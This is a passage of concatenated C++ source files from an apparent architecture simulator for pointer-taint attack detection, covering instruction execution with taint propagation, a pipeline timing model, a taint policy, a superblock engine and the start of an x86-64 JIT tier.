      alu_write(inst, inst.rd, rt.value << inst.shamt, rt,
                imm_word(inst.shamt), true);
      ++stats_.alu_ops;
      break;
    case Op::kSrl:
      alu_write(inst, inst.rd, rt.value >> inst.shamt, rt,
                imm_word(inst.shamt), true);
      ++stats_.alu_ops;
      break;
    case Op::kSra:
      alu_write(inst, inst.rd,
                static_cast<uint32_t>(static_cast<int32_t>(rt.value) >>
                                      inst.shamt),
                rt, imm_word(inst.shamt), true);
      ++stats_.alu_ops;
      break;
    case Op::kSllv:
      alu_write(inst, inst.rd, rt.value << (rs.value & 31), rt, rs, false);
      ++stats_.alu_ops;
      break;
    case Op::kSrlv:
      alu_write(inst, inst.rd, rt.value >> (rs.value & 31), rt, rs, false);
      ++stats_.alu_ops;
      break;
    case Op::kSrav:
      alu_write(inst, inst.rd,
                static_cast<uint32_t>(static_cast<int32_t>(rt.value) >>
                                      (rs.value & 31)),
                rt, rs, false);
      ++stats_.alu_ops;
      break;

    // ---- three-register ALU ----
    case Op::kAdd:
    case Op::kAddu:
      alu_write(inst, inst.rd, rs.value + rt.value, rs, rt, false);
      ++stats_.alu_ops;
      break;
    case Op::kSub:
    case Op::kSubu:
      alu_write(inst, inst.rd, rs.value - rt.value, rs, rt, false);
      ++stats_.alu_ops;
      break;
    case Op::kAnd:
      alu_write(inst, inst.rd, rs.value & rt.value, rs, rt, false);
      ++stats_.alu_ops;
      break;
    case Op::kOr:
      alu_write(inst, inst.rd, rs.value | rt.value, rs, rt, false);
      ++stats_.alu_ops;
      break;
    case Op::kXor:
      alu_write(inst, inst.rd, rs.value ^ rt.value, rs, rt, false);
      ++stats_.alu_ops;
      break;
    case Op::kNor:
      alu_write(inst, inst.rd, ~(rs.value | rt.value), rs, rt, false);
      ++stats_.alu_ops;
      break;
    case Op::kSlt:
      alu_write(inst, inst.rd,
                static_cast<int32_t>(rs.value) < static_cast<int32_t>(rt.value)
                    ? 1
                    : 0,
                rs, rt, false);
      ++stats_.alu_ops;
      break;
    case Op::kSltu:
      alu_write(inst, inst.rd, rs.value < rt.value ? 1 : 0, rs, rt, false);
      ++stats_.alu_ops;
      break;

    // ---- multiply / divide ----
    case Op::kMult: {
      const int64_t p = static_cast<int64_t>(static_cast<int32_t>(rs.value)) *
                        static_cast<int64_t>(static_cast<int32_t>(rt.value));
      const TaintBits t = static_cast<TaintBits>(rs.taint | rt.taint);
      regs_.set_lo(TaintedWord{static_cast<uint32_t>(p), t});
      regs_.set_hi(TaintedWord{static_cast<uint32_t>(p >> 32), t});
      ++stats_.alu_ops;
      break;
    }
    case Op::kMultu: {
      const uint64_t p = static_cast<uint64_t>(rs.value) *
                         static_cast<uint64_t>(rt.value);
      const TaintBits t = static_cast<TaintBits>(rs.taint | rt.taint);
      regs_.set_lo(TaintedWord{static_cast<uint32_t>(p), t});
      regs_.set_hi(TaintedWord{static_cast<uint32_t>(p >> 32), t});
      ++stats_.alu_ops;
      break;
    }
    case Op::kDiv: {
      const auto a = static_cast<int32_t>(rs.value);
      const auto b = static_cast<int32_t>(rt.value);
      const TaintBits t = static_cast<TaintBits>(rs.taint | rt.taint);
      if (b == 0) {
        regs_.set_lo(TaintedWord{0, t});
        regs_.set_hi(TaintedWord{0, t});
      } else {
        regs_.set_lo(TaintedWord{static_cast<uint32_t>(a / b), t});
        regs_.set_hi(TaintedWord{static_cast<uint32_t>(a % b), t});
      }
      ++stats_.alu_ops;
      break;
    }
    case Op::kDivu: {
      const TaintBits t = static_cast<TaintBits>(rs.taint | rt.taint);
      if (rt.value == 0) {
        regs_.set_lo(TaintedWord{0, t});
        regs_.set_hi(TaintedWord{0, t});
      } else {
        regs_.set_lo(TaintedWord{rs.value / rt.value, t});
        regs_.set_hi(TaintedWord{rs.value % rt.value, t});
      }
      ++stats_.alu_ops;
      break;
    }
    case Op::kMfhi:
      regs_.set(inst.rd, regs_.hi());
      ++stats_.alu_ops;
      break;
    case Op::kMflo:
      regs_.set(inst.rd, regs_.lo());
      ++stats_.alu_ops;
      break;
    case Op::kMthi:
      regs_.set_hi(rs);
      ++stats_.alu_ops;
      break;
    case Op::kMtlo:
      regs_.set_lo(rs);
      ++stats_.alu_ops;
      break;

    // ---- kernel tainting primitives (the Section 4.4 RT-register trick) --
    case Op::kTaintSet:
      regs_.set(inst.rd,
                TaintedWord{rs.value,
                            static_cast<TaintBits>(
                                mem::kAllTainted |
                                (rs.taint & mem::kAddrMask))});
      ++stats_.alu_ops;
      break;
    case Op::kTaintClr:
      regs_.set(inst.rd, TaintedWord{rs.value, mem::kUntainted});
      ++stats_.alu_ops;
      break;

    // ---- immediate ALU ----
    case Op::kAddi:
    case Op::kAddiu:
      alu_write(inst, inst.rt, rs.value + static_cast<uint32_t>(inst.imm), rs,
                imm_word(static_cast<uint32_t>(inst.imm)), true);
      ++stats_.alu_ops;
      break;
    case Op::kSlti:
      alu_write(inst, inst.rt,
                static_cast<int32_t>(rs.value) < inst.imm ? 1 : 0, rs,
                imm_word(static_cast<uint32_t>(inst.imm)), true);
      ++stats_.alu_ops;
      break;
    case Op::kSltiu:
      alu_write(inst, inst.rt,
                rs.value < static_cast<uint32_t>(inst.imm) ? 1 : 0, rs,
                imm_word(static_cast<uint32_t>(inst.imm)), true);
      ++stats_.alu_ops;
      break;
    case Op::kAndi:
      alu_write(inst, inst.rt, rs.value & (inst.imm & 0xffff), rs,
                imm_word(static_cast<uint32_t>(inst.imm & 0xffff)), true);
      ++stats_.alu_ops;
      break;
    case Op::kOri:
      alu_write(inst, inst.rt, rs.value | (inst.imm & 0xffff), rs,
                imm_word(static_cast<uint32_t>(inst.imm & 0xffff)), true);
      ++stats_.alu_ops;
      break;
    case Op::kXori:
      alu_write(inst, inst.rt, rs.value ^ (inst.imm & 0xffff), rs,
                imm_word(static_cast<uint32_t>(inst.imm & 0xffff)), true);
      ++stats_.alu_ops;
      break;
    case Op::kLui: {
      // `la label` in text expands to LUI/ORI of a code address: a constant
      // that lands in the executable range carries text provenance (the
      // ORI below OR-merges it through).
      const uint32_t v = static_cast<uint32_t>(inst.imm & 0xffff) << 16;
      const TaintBits t = text_begin_ != 0 && v >= text_begin_ && v < text_end_
                              ? mem::kTextAddrMask
                              : mem::kUntainted;
      regs_.set(inst.rt, TaintedWord{v, t});
      ++stats_.alu_ops;
      break;
    }

    // ---- loads ----
    case Op::kLb:
    case Op::kLbu:
    case Op::kLh:
    case Op::kLhu:
    case Op::kLw: {
      ea = rs.value + static_cast<uint32_t>(inst.imm);
      is_mem = true;
      ++stats_.loads;
      // Memory-access detector (after EX/MEM): the address word is the base
      // register; a tainted base means the attacker chose the address.
      if (!elide &&
          detect_pointer(inst, inst.rs, rs, AlertKind::kTaintedLoadAddress)) {
        return stop_;
      }
      TaintedWord result;
      if (inst.op == Op::kLw) {
        if (ea % 4 != 0) { fault("misaligned lw"); return stop_; }
        result = memory_.load_word(ea);
      } else if (inst.op == Op::kLh || inst.op == Op::kLhu) {
        if (ea % 2 != 0) { fault("misaligned lh"); return stop_; }
        const TaintedWord half = memory_.load_half(ea);
        if (inst.op == Op::kLh) {
          result.value = static_cast<uint32_t>(
              static_cast<int16_t>(half.value & 0xffff));
          // Sign extension makes every result byte depend on the loaded
          // half, so taint widens to the full word (per plane).
          result.taint = mem::widen_planes(half.taint);
        } else {
          result = half;
        }
      } else {
        const mem::TaintedByte b = memory_.load_byte(ea);
        if (inst.op == Op::kLb) {
          result.value =
              static_cast<uint32_t>(static_cast<int8_t>(b.value));
          result.taint = mem::widen_planes(mem::planes_to_word(b.planes, 0));
        } else {
          result.value = b.value;
          result.taint = mem::planes_to_word(b.planes, 0);
        }
      }
      if (policy_.per_word_taint) {
        result.taint = mem::widen_planes(result.taint);
      }
      if (result.tainted()) ++stats_.tainted_loads;
      regs_.set(inst.rt, result);
      break;
    }

    // ---- stores ----
    case Op::kSb:
    case Op::kSh:
    case Op::kSw: {
      ea = rs.value + static_cast<uint32_t>(inst.imm);
      is_mem = true;
      ++stats_.stores;
      if (!elide &&
          detect_pointer(inst, inst.rs, rs, AlertKind::kTaintedStoreAddress)) {
        return stop_;
      }
      const uint32_t store_len =
          inst.op == Op::kSw ? 4 : inst.op == Op::kSh ? 2 : 1;
      // Only the taint of the bytes actually stored counts (every plane).
      const TaintedWord stored{
          rt.value, static_cast<TaintBits>(
                        rt.taint & (((1u << store_len) - 1) * 0x1111u))};
      if (detect_annotation(inst, ea, store_len, stored)) return stop_;
      if (rt.tainted()) ++stats_.tainted_stores;
      if (ea < text_end_ && ea + store_len > text_begin_) {
        invalidate_decode_range(ea, store_len);
      }
      if (inst.op == Op::kSw) {
        if (ea % 4 != 0) { fault("misaligned sw"); return stop_; }
        memory_.store_word(ea, rt);
      } else if (inst.op == Op::kSh) {
        if (ea % 2 != 0) { fault("misaligned sh"); return stop_; }
        memory_.store_half(ea, rt);
      } else {
        memory_.store_byte(
            ea, {static_cast<uint8_t>(rt.value), mem::byte_planes(rt.taint, 0)});
      }
      break;
    }

    // ---- branches ----
    case Op::kBeq:
    case Op::kBne:
    case Op::kBlez:
    case Op::kBgtz:
    case Op::kBltz:
    case Op::kBgez:
    case Op::kBltzal:
    case Op::kBgezal: {
      ++stats_.branches;
      const auto sval = static_cast<int32_t>(rs.value);
      switch (inst.op) {
        case Op::kBeq: taken = rs.value == rt.value; break;
        case Op::kBne: taken = rs.value != rt.value; break;
        case Op::kBlez: taken = sval <= 0; break;
        case Op::kBgtz: taken = sval > 0; break;
        case Op::kBltz: case Op::kBltzal: taken = sval < 0; break;
        default: taken = sval >= 0; break;
      }
      if (inst.op == Op::kBltzal || inst.op == Op::kBgezal) {
        regs_.set(isa::kRa, TaintedWord{pc_ + 4, mem::kTextAddrMask});
      }
      // Branches compare data against bounds; the Table 1 compare rule
      // trusts validated values afterwards.
      if (policy_.compare_untaints &&
          (rs.tainted() || regs_.get(inst.rt).tainted())) {
        regs_.untaint(inst.rs);
        if (inst.op == Op::kBeq || inst.op == Op::kBne) {
          regs_.untaint(inst.rt);
        }
        ++stats_.compare_untaints;
      }
      if (taken) {
        next_pc = pc_ + 4 + (static_cast<uint32_t>(inst.imm) << 2);
        ++stats_.taken_branches;
      }
      break;
    }

    // ---- jumps ----
    case Op::kJ:
      next_pc = inst.target;
      ++stats_.jumps;
      break;
    case Op::kJal:
      // Link addresses are text addresses — the root of text provenance.
      regs_.set(isa::kRa, TaintedWord{pc_ + 4, mem::kTextAddrMask});
      next_pc = inst.target;
      ++stats_.jumps;
      break;
    case Op::kJr:
      ++stats_.jumps;
      // Control-transfer detector (after ID/EX): tainted jump target.
      if (!elide &&
          detect_pointer(inst, inst.rs, rs, AlertKind::kTaintedJumpTarget)) {
        return stop_;
      }
      next_pc = rs.value;
      break;
    case Op::kJalr:
      ++stats_.jumps;
      if (!elide &&
          detect_pointer(inst, inst.rs, rs, AlertKind::kTaintedJumpTarget)) {
        return stop_;
      }
      regs_.set(inst.rd, TaintedWord{pc_ + 4, mem::kTextAddrMask});
      next_pc = rs.value;
      break;

    case Op::kSyscall:
      ++stats_.syscalls;
      if (os_ == nullptr) {
        fault("syscall without an OS");
        return stop_;
      }
      os_->syscall(*this);
      if (stop_ != StopReason::kRunning) {
        // The syscall still retired (exit/termination is its effect).
        ++stats_.instructions;
        if (retire_hook_) retire_hook_(inst, pc_, false, false, 0);
        return stop_;
      }
      break;

    case Op::kBreak:
      stop_ = StopReason::kBreak;
      ++stats_.instructions;
      if (retire_hook_) retire_hook_(inst, pc_, false, false, 0);
      return stop_;

    case Op::kInvalid:
      fault("invalid instruction");
      return stop_;
  }

  ++stats_.instructions;
  if (retire_hook_) retire_hook_(inst, pc_, taken, is_mem, ea);
  pc_ = next_pc;
  return stop_;
}

}  // namespace ptaint::cpu
