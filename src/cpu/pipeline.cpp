#include "cpu/pipeline.hpp"

namespace ptaint::cpu {

using isa::Instruction;
using isa::Op;
using isa::OpClass;

Pipeline::Pipeline(const PipelineConfig& config)
    : config_(config),
      icache_(config.icache),
      dcache_(config.dcache),
      l2_(config.l2) {}

void Pipeline::on_retire(const Instruction& inst, uint32_t pc, bool taken,
                         bool is_mem, uint32_t ea) {
  ++stats_.instructions;
  uint64_t cycles = 1;  // steady-state CPI of 1 for the in-order pipe

  // Instruction fetch.
  if (icache_.access(pc, false) > config_.icache.hit_latency) {
    uint32_t penalty = config_.icache.miss_penalty;
    if (l2_.access(pc, false) > config_.l2.hit_latency) {
      penalty += config_.l2.miss_penalty;
    }
    stats_.icache_miss_cycles += penalty;
    cycles += penalty;
  }

  // Load-use interlock: consumer immediately after a load stalls one cycle.
  if (prev_was_load_) {
    const uint8_t d = prev_load_dest_;
    bool uses = false;
    switch (isa::op_class(inst.op)) {
      case OpClass::kAlu:
      case OpClass::kShift:
      case OpClass::kLogicAnd:
      case OpClass::kLogicXor:
      case OpClass::kCompare:
      case OpClass::kBranch:
        uses = (inst.rs == d || inst.rt == d) && d != 0;
        break;
      case OpClass::kLoad:
      case OpClass::kJumpReg:
        uses = inst.rs == d && d != 0;
        break;
      case OpClass::kStore:
        uses = (inst.rs == d || inst.rt == d) && d != 0;
        break;
      default:
        break;
    }
    if (uses) {
      ++stats_.load_use_stalls;
      ++cycles;
    }
  }

  // Data access.
  if (is_mem) {
    if (dcache_.access(ea, inst.is_store()) > config_.dcache.hit_latency) {
      uint32_t penalty = config_.dcache.miss_penalty;
      if (l2_.access(ea, inst.is_store()) > config_.l2.hit_latency) {
        penalty += config_.l2.miss_penalty;
      }
      stats_.dcache_miss_cycles += penalty;
      cycles += penalty;
    }
  }

  // Control flow resolved in EX flushes the two younger fetch slots.
  // Conditional branches go through the configured predictor; jumps always
  // redirect the fetch stream.
  const OpClass cls = isa::op_class(inst.op);
  if (cls == OpClass::kBranch) {
    ++stats_.cond_branches;
    bool predicted_taken = false;
    if (config_.predictor == PipelineConfig::BranchPredictor::kTwoBit) {
      uint8_t& counter = bht_[(pc >> 2) & (bht_.size() - 1)];
      predicted_taken = counter >= 2;
      if (taken && counter < 3) ++counter;
      if (!taken && counter > 0) --counter;
    }
    if (predicted_taken != taken) {
      ++stats_.mispredictions;
      stats_.branch_flush_cycles += config_.branch_flush_cycles;
      cycles += config_.branch_flush_cycles;
    }
  } else if (cls == OpClass::kJump || cls == OpClass::kJumpReg) {
    stats_.branch_flush_cycles += config_.branch_flush_cycles;
    cycles += config_.branch_flush_cycles;
  }

  // NOTE: taint tracking adds no cycles by design — the merge logic runs in
  // parallel with the ALU/AGEN stages and is strictly faster (see
  // StageDelays); only storage grows.  This is the paper's Section 5.4
  // performance claim, checked by bench_fig3_pipeline_overhead.

  stats_.cycles += cycles;
  prev_was_load_ = inst.is_load();
  prev_load_dest_ = inst.rt;
}

uint64_t Pipeline::taint_storage_bits() const {
  if (!config_.taint_tracking) return 0;
  // 1 taint bit per byte: 32 registers * 4 bytes, HI/LO, 4 inter-stage
  // datapath latches of 2 words each, plus the cache extensions.
  const uint64_t regfile = (32 + 2) * 4;
  const uint64_t latches = 4 * 2 * 4;
  return regfile + latches + icache_.taint_bits() + dcache_.taint_bits() +
         l2_.taint_bits();
}

uint64_t Pipeline::baseline_storage_bits() const {
  const uint64_t regfile = (32 + 2) * 32;
  const uint64_t latches = 4 * 2 * 32;
  return regfile + latches + icache_.data_bits() + dcache_.data_bits() +
         l2_.data_bits();
}

}  // namespace ptaint::cpu
