// Runtime-configurable taint policy.
//
// The default configuration is exactly the paper's architecture.  The other
// knobs exist for the coverage-comparison baseline (control-data-only
// protection, i.e. Minos / Secure Program Execution style) and for the
// ablation benchmarks called out in DESIGN.md §5.
#pragma once

namespace ptaint::cpu {

/// What the detectors guard.
enum class DetectionMode {
  /// No detection: attacks run to completion (ground-truth runs).
  kOff,
  /// Control-data protection baseline: only register-indirect control
  /// transfers (JR/JALR) with tainted targets raise an alert.  Models the
  /// coverage of Minos / Secure Program Execution / NX-style defenses.
  kControlDataOnly,
  /// The paper's proposal: any tainted word dereferenced as an address —
  /// load, store, or jump-register — raises an alert.
  kPointerTaint,
};

struct TaintPolicy {
  DetectionMode mode = DetectionMode::kPointerTaint;

  /// NX / no-execute page protection (the AMD/Intel mechanism the paper's
  /// introduction cites as the incumbent defense): instruction fetch
  /// outside the executable text region raises an alert.  Orthogonal to
  /// `mode`; catches injected shellcode but not return-to-existing-code or
  /// any non-control-data attack.
  bool nx_protection = false;

  // Table 1 special-case propagation rules (all enabled in the paper).
  bool compare_untaints = true;   // compare untaints its operand registers
  bool and_zero_untaints = true;  // AND with untainted zero byte untaints
  bool xor_self_untaints = true;  // XOR r,r,r zeroing idiom untaints
  bool shift_smear = true;        // shifts smear taint to the adjacent byte

  // Ablation: track taint per word instead of per byte (any tainted byte
  // taints the whole word).  The paper uses per-byte tracking.
  bool per_word_taint = false;

  // Address-leak direction (DrTaint-style, the inverse of the paper's):
  // SYS_WRITE/SYS_SEND buffers holding bytes with stack/heap/text address
  // provenance raise an address-leak alert.  Off by default — address
  // planes still propagate, only the output-site check is gated here.
  bool leak_detection = false;
};

}  // namespace ptaint::cpu
