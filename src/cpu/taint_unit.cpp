#include "cpu/taint_unit.hpp"

namespace ptaint::cpu {

using isa::Op;
using isa::OpClass;
using mem::TaintBits;

namespace {

// Default Table 1 rule: per-byte OR of the corresponding source taint bits.
TaintBits or_merge(TaintBits a, TaintBits b) {
  return static_cast<TaintBits>(a | b);
}

// Shift rule: a tainted byte also taints its neighbour along the direction
// of shifting.  For a left shift data moves towards the MSB, so taint of
// byte i spreads to byte i+1; right shifts spread downwards.  The per-plane
// masks keep the spread inside each 4-bit plane (no cross-plane carries).
TaintBits smear(TaintBits t, bool left) {
  TaintBits spread = left ? static_cast<TaintBits>((t << 1) & 0xeeee)
                          : static_cast<TaintBits>((t >> 1) & 0x7777);
  return static_cast<TaintBits>(t | spread);
}

// AND rule: a byte AND-ed with an untainted zero byte is constant zero
// regardless of the other side, so its taint (every plane) clears.
TaintBits and_rule(const mem::TaintedWord& a, const mem::TaintedWord& b) {
  TaintBits out = mem::kUntainted;
  for (int i = 0; i < 4; ++i) {
    const auto byte_a = static_cast<uint8_t>(a.value >> (8 * i));
    const auto byte_b = static_cast<uint8_t>(b.value >> (8 * i));
    const uint8_t pa = mem::byte_planes(a.taint, i);
    const uint8_t pb = mem::byte_planes(b.taint, i);
    const bool a_is_const_zero = byte_a == 0 && !(pa & mem::kByteData);
    const bool b_is_const_zero = byte_b == 0 && !(pb & mem::kByteData);
    if (a_is_const_zero || b_is_const_zero) continue;  // untainted result
    out |= mem::planes_to_word(static_cast<uint8_t>(pa | pb), i);
  }
  return out;
}

}  // namespace

TaintBits TaintUnit::apply_granularity(TaintBits t) const {
  if (policy_.per_word_taint) return mem::widen_planes(t);
  return t;
}

TaintOpResult TaintUnit::propagate(const TaintOpInputs& in) const {
  ++stats_.evaluations;
  if (mem::any_tainted(in.a.taint) || mem::any_tainted(in.b.taint)) {
    ++stats_.tainted_evaluations;
  }
  TaintOpResult out;
  const Op op = in.inst.op;
  switch (isa::op_class(op)) {
    case OpClass::kShift: {
      if (!policy_.shift_smear) {
        out.result_taint = or_merge(in.a.taint, in.b.taint);
        break;
      }
      const bool left = (op == Op::kSll || op == Op::kSllv);
      // `a` is the value being shifted; `b` is the shift amount (register
      // form only).  A tainted shift amount taints the whole result, since
      // the attacker then controls the data placement.
      TaintBits t = smear(in.a.taint, left);
      if (mem::any_tainted(in.b.taint)) {
        t = static_cast<TaintBits>(mem::kAllTainted |
                                   (mem::widen_planes(in.a.taint) &
                                    mem::kAddrMask));
      }
      out.result_taint = t;
      break;
    }
    case OpClass::kLogicAnd: {
      if (policy_.and_zero_untaints) {
        ++stats_.and_zero_untaints;
        out.result_taint = and_rule(in.a, in.b);
      } else {
        out.result_taint = or_merge(in.a.taint, in.b.taint);
      }
      break;
    }
    case OpClass::kLogicXor: {
      // The XOR R1,R2,R2 zeroing idiom produces constant zero.
      const bool self_xor =
          !in.b_is_immediate && in.inst.rs == in.inst.rt;
      if (self_xor && policy_.xor_self_untaints) {
        ++stats_.xor_self_untaints;
        out.result_taint = mem::kUntainted;
      } else {
        out.result_taint = or_merge(in.a.taint, in.b.taint);
      }
      break;
    }
    case OpClass::kCompare: {
      // Compares are the idiom of input-validation code; the paper trusts
      // validated data for application compatibility (Section 4.2, case 4).
      if (policy_.compare_untaints) {
        ++stats_.compare_untaints;
        out.result_taint = mem::kUntainted;
        out.untaint_sources = true;
      } else {
        // A compare result is a fresh boolean, never an address: the data
        // planes merge, the address planes do not survive.
        out.result_taint = static_cast<TaintBits>(
            or_merge(in.a.taint, in.b.taint) & mem::kDataMask);
      }
      break;
    }
    default:
      out.result_taint = or_merge(in.a.taint, in.b.taint);
      if (op == Op::kSub || op == Op::kSubu) {
        // Subtracting two values of the same address class yields a length
        // (pointer difference), not an address: planes present on both
        // sides cancel; a plane on one side survives (address ± offset).
        for (TaintBits plane : {mem::kStackAddrMask, mem::kHeapAddrMask,
                                mem::kTextAddrMask}) {
          if ((in.a.taint & plane) != 0 && (in.b.taint & plane) != 0) {
            out.result_taint &= static_cast<TaintBits>(~plane);
          }
        }
      }
      break;
  }
  out.result_taint = apply_granularity(out.result_taint);
  return out;
}

int TaintUnit::gate_cost() {
  // Per byte: OR-merge (1 gate), AND-zero detector (zero-compare 8-input NOR
  // ~3 gates + qualifier ~2), shift smear (1 OR), plus a 4:1 mux (~3 gates
  // per output bit) and the final 4-input OR detector at each of the two
  // detection points.  4 bytes per word.
  constexpr int kPerByte = 1 + 5 + 1 + 3;
  constexpr int kDetectors = 2 * 3;  // two 4-input OR trees
  return 4 * kPerByte + kDetectors;
}

}  // namespace ptaint::cpu
