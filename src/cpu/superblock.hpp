// Superblock threaded-dispatch execution engine (DESIGN.md §9).
//
// The step interpreter pays a fetch / decode-cache probe / switch dispatch
// for every guest instruction.  This engine lazily translates straight-line
// runs of instructions ("superblocks", ending at branches, jumps, syscalls
// or static CFG leaders) into contiguous micro-op arrays and executes them
// with a computed-goto threaded dispatch loop: one bounds/NX/alignment check
// per block instead of per instruction, pre-classified handlers instead of
// the big decode switch, static check-elision verdicts baked into the
// micro-ops, and common pairs (lui+ori, compare+branch, addr-gen+load/store)
// fused into single handlers.
//
// Identity contract: every handler replicates Cpu::execute()'s semantics
// bit-for-bit — architectural state, stop reasons, alert records, CpuStats
// and TaintUnit::Stats counters, and counter *ordering* around early stops.
// The untainted fast paths skip TaintUnit::propagate only when its result
// and counter bumps are provably reproduced inline.  The engine never runs
// when a retire hook (trace/profile/pipeline) is installed; Cpu::advance
// falls back to step() in that case.
//
// Invalidation: the block cache is keyed by entry PC over the decoded-text
// range.  Cpu::invalidate_decode_range (guest stores into text, kernel
// copies) retires overlapping blocks into a graveyard — freed only between
// block executions, so a block invalidating *itself* mid-run keeps a valid
// micro-op array; the store handlers then abort the block with the PC of
// the next instruction and execution resumes through fresh translation.
// snapshot/restore flushes everything via Cpu::set_executable_range; blocks
// are derived state and refill lazily, exactly like the decode cache.
#pragma once

#include <cstdint>
#include <memory>
#include <vector>

#include "cpu/cpu.hpp"

namespace ptaint::cpu {

class SuperblockEngine {
 public:
  explicit SuperblockEngine(Cpu& cpu) : cpu_(cpu) {}
  ~SuperblockEngine();  // out-of-line: unique_ptr to the incomplete JitEngine

  /// Runs until stop or until exactly `n` more instructions retire (same
  /// budget semantics as the step loop in Cpu::run, minus the kInstLimit
  /// marking).  Blocks longer than the remaining budget fall back to
  /// single-stepping so budgets never overshoot.  Under Engine::kJit the
  /// JIT trampoline takes over and uses this engine's translation cache and
  /// interpreted dispatch for cold or non-JITable blocks.
  StopReason advance(uint64_t n);

  /// Attaches the JIT tier (Engine::kJit).  Idempotent; the tier stays
  /// attached but dormant if the engine later switches back.
  void enable_jit();

  /// JIT-tier counters (zeros when the tier was never enabled).
  const JitStats& jit_stats() const;

  /// Retires every cached block overlapping [addr, addr+len) — the
  /// self-modifying-code path, forwarded from Cpu::invalidate_decode_range.
  void on_invalidate(uint32_t addr, uint32_t len);

  /// Drops every cached block (elision/leader bitmap changed); safe to call
  /// between runs only.
  void flush_all();

  /// Drops all blocks and re-sizes the cache to the CPU's current decoded
  /// text range (set_executable_range / snapshot restore).
  void reset();

  const SuperblockStats& stats() const { return stats_; }

 private:
  friend class JitEngine;   // compiles Block micro-op arrays to host code
  friend struct JitRuntime; // slow-path helpers re-enter the handler logic
  /// Micro-op kinds.  Order must match the dispatch table in exec_block.
  enum Kind : uint8_t {
    kEnd,  // fall off the block (CFG leader / size cap): set pc, exit
    kLui,
    kAddRR, kSubRR, kOrRR, kNorRR, kXorRR, kAndRR, kSltRR, kSltuRR,
    kSllI, kSrlI, kSraI, kSllvRR, kSrlvRR, kSravRR,
    kAddI, kOrI, kXorI, kAndI, kSltI, kSltuI,
    kMulDiv,  // mult/multu/div/divu/mfhi/mflo/mthi/mtlo/taintset/taintclr
    kLw, kLoadOther,
    kSw, kStoreSmall,
    // fused pairs
    kLuiOri, kAddrLw, kAddrSw,
    // terminators
    kBranch, kCmpBranch, kJ, kJal, kJr, kJalr, kSyscall, kBreak,
    kNumKinds,
  };

  struct MicroOp {
    uint8_t kind = kEnd;
    uint8_t elide = 0;  // pointer check statically elided (mem / jr site)
    uint8_t aux = 0;    // kLuiOri: intermediate write needed; kCmpBranch: bne
    uint8_t pad = 0;
    uint32_t pc = 0;     // guest PC of the (first) instruction
    uint32_t value = 0;  // precomputed constant (kLui / kLuiOri)
    isa::Instruction inst;
    isa::Instruction inst2;  // second instruction of a fused pair
  };

  struct Block {
    uint32_t entry_pc = 0;
    uint32_t guest_len = 0;  // guest instructions covered
    uint32_t byte_len = 0;   // text bytes covered (invalidation overlap)
    uint32_t fused = 0;      // fused pairs inside
    bool retired = false;    // flushed while possibly executing
    // Chain memo: the successor block this one last exited into, keyed by
    // exit pc and validated against the engine's invalidation generation.
    // Loops chain block-to-block without touching block_at_ at all.
    Block* succ = nullptr;
    uint32_t succ_pc = 0;
    uint64_t succ_gen = 0;
    // JIT tier (DESIGN.md §12).  `host` points into the engine-owned code
    // arena once the block compiles; `heat` counts trampoline entries until
    // the compile threshold; `no_jit` latches a compiler bailout so the
    // block stays on the interpreted path without re-scanning.
    const uint8_t* host = nullptr;
    uint32_t heat = 0;
    uint8_t no_jit = 0;
    std::vector<MicroOp> uops;
  };

  Block* translate(uint32_t pc, uint32_t idx);
  /// Executes `blk` and then chains: block-exit handlers dispatch straight
  /// into the successor block while it is cached and fits the remaining
  /// `budget` (in guest instructions), without returning to advance().
  /// Chaining is what makes short, branchy blocks cheap — the per-entry
  /// bookkeeping in advance() would otherwise dominate 3-instruction loops.
  void exec_block(Block& blk, uint64_t budget);
  void ensure_capacity();

  Cpu& cpu_;
  // Bumped whenever any translation dies (invalidation, flush, reset), so
  // every Block::succ memo taken under an older generation stops matching.
  uint64_t gen_ = 1;
  std::vector<Block*> block_at_;  // per decode index, non-owning
  std::vector<std::unique_ptr<Block>> blocks_;     // live, owning
  std::vector<std::unique_ptr<Block>> graveyard_;  // invalidated mid-advance
  SuperblockStats stats_;
  std::unique_ptr<JitEngine> jit_;  // attached by enable_jit (Engine::kJit)
};

}  // namespace ptaint::cpu
