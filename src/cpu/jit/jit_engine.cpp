// JIT tier implementation (DESIGN.md §12): trampoline, code arena, and the
// micro-op → x86-64 compiler.
//
// Emitted register convention (SysV, entry arg rdi = Context*):
//   r14 = Context*        r12 = Cpu*
//   r13 = register slots  rbp = TaintedMemory*
// all callee-saved, so they survive helper calls; rax/rcx/rdx/rsi/r8/r9 are
// scratch.  Register slot i lives at [r13 + 8*i]: value dword at +0, taint
// word at +4, two padding bytes that are never read — an untainted result
// is stored as one 8-byte mov of the zero-extended value.  Taint tests read
// only the 16 taint bits (test cx,cx after shr rcx,32), never the padding.
#include "cpu/jit/jit_engine.hpp"

#include <algorithm>
#include <cstdlib>
#include <cstring>
#include <map>
#include <vector>

#include "cpu/cpu.hpp"
#include "cpu/jit/emitter.hpp"
#include "cpu/jit/jit_runtime.hpp"

#if defined(__unix__) || defined(__APPLE__)
#include <sys/mman.h>
#define PTAINT_JIT_HAVE_MMAP 1
#else
#define PTAINT_JIT_HAVE_MMAP 0
#endif

namespace ptaint::cpu {

namespace {

using jit::Cc;
using jit::Emitter;
using jit::Gp;
using SB = SuperblockEngine;

// Trampoline entries before a block is compiled.  Low enough that hot loops
// compile almost immediately, high enough that one-shot code never pays for
// compilation.
constexpr uint32_t kHotThreshold = 8;

// Budget slice handed to the interpreted dispatch when a block is cold or
// non-JITable.  exec_block chains blocks internally, so without a cap a hot
// interpreted loop would never return to the trampoline to accrue heat.
constexpr uint64_t kInterpSlice = 1024;

constexpr size_t kArenaBytes = 8u << 20;  // virtual; pages commit lazily

template <typename Fn>
uint64_t fn_addr(Fn* fn) {
  return reinterpret_cast<uint64_t>(reinterpret_cast<void*>(fn));
}

// Deferred counter sums, keyed by byte offset from the Cpu object.
using Flush = std::map<int32_t, uint64_t>;

}  // namespace

// ---------------------------------------------------------------------------
// Construction / arena
// ---------------------------------------------------------------------------

JitEngine::JitEngine(SuperblockEngine& sb, Cpu& cpu) : sb_(sb), cpu_(cpu) {
  // The emitted indirect-target probe addresses entries as base + i*16 with
  // pc at +0, guest_len at +4 and top at +8.
  static_assert(sizeof(IndirectEntry) == 16);
  static_assert(offsetof(IndirectEntry, guest_len) == 4);
  static_assert(offsetof(IndirectEntry, top) == 8);
  itable_.assign(kIndirectSlots, IndirectEntry{});  // never resized again
  ctx_.cpu = &cpu;
  ctx_.regs = cpu.regs_.flat_slots();
  ctx_.mem = &cpu.memory_;

  const char* cbase = reinterpret_cast<const char*>(&cpu);
  const auto coff = [cbase](const void* p) {
